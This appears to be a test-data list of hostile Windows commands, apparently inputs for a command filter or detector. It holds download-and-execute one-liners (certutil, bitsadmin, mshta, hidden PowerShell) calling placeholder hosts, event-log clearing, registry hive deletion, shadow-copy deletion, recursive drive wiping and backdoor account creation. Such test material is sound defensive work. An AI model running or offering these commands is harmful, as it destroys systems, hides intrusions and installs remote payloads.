shutdown /r /t 0
wevtutil cl Security
reg delete HKLM\SYSTEM\X /f
net user ben x /add
rd /s /q "%DIR%\"
certutil -urlcache -f http://x.example y
schtasks /create /tn x /tr y
mshta http://x.example
#: written by a fresh eye, before the rules were looked at
shutdown /s /t 0
net user eve Passw0rd /add
powershell -nop -w hidden -c "iex (iwr http://evil.example/x)"
reg delete HKLM\SOFTWARE /f
vssadmin delete shadows /all
certutil -urlcache -f http://evil.example/x.exe x.exe & x.exe
bitsadmin /transfer j http://evil.example/x.exe C:\x.exe & start C:\x.exe
#: written without a look at the rules, of what is done to machines every day
reg delete "HKLM\SYSTEM" /f
shutdown /s /f /t 0
wevtutil cl System && wevtutil cl Application
schtasks /create /tn x /tr "cmd /c rd /s /q C:\\" /sc onstart /ru SYSTEM
net user administrator /active:no
icacls C:\ /deny Everyone:(F) /T
certutil -urlcache -f http://198.51.100.7/a.exe %TEMP%\a.exe && %TEMP%\a.exe
